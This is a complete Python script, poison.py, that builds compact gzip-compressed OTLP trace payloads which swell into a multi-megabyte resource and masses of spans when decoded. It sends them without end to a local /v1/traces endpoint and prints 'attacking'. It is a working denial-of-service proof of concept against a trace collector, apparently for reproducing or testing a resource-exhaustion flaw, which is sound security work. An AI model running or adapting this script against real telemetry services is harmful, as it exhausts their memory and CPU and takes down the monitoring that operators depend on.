# SPDX-License-Identifier: Apache-2.0
"""One request after the other, which cost far more than their bytes on the wire: a Resource of some MB and all the spans that fit beside it.

    poison.py PORT RESOURCE_BYTES BODY_BYTES [PAUSE_SECONDS]"""
import gzip
import http.client
import os
import sys
import time


def varint(number):
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def field(number, payload):
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def request(resource_bytes, body_bytes):
    """Spans of one id, as small as they can be."""
    attribute = field(1, field(1, b"k") + field(2, field(1, b"x" * 1000)))
    resource = attribute * (resource_bytes // len(attribute))
    span = field(2, field(1, os.urandom(16)) + field(2, os.urandom(8)))
    spans = span * ((body_bytes - len(resource)) // len(span) - 10)
    return gzip.compress(field(1, field(1, resource) + field(2, spans)), 9)


def main(port, body, pause_s):
    print("attacking", flush=True)
    while True:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
        connection.request("POST", "/v1/traces", body, {"Content-Type": "application/x-protobuf",
                                                        "Content-Encoding": "gzip"})
        connection.getresponse().read()
        connection.close()
        print("answered", flush=True)
        time.sleep(pause_s)


if __name__ == "__main__":
    main(int(sys.argv[1]), request(int(sys.argv[2]), int(sys.argv[3])), float(sys.argv[4]) if sys.argv[4:] else 0)
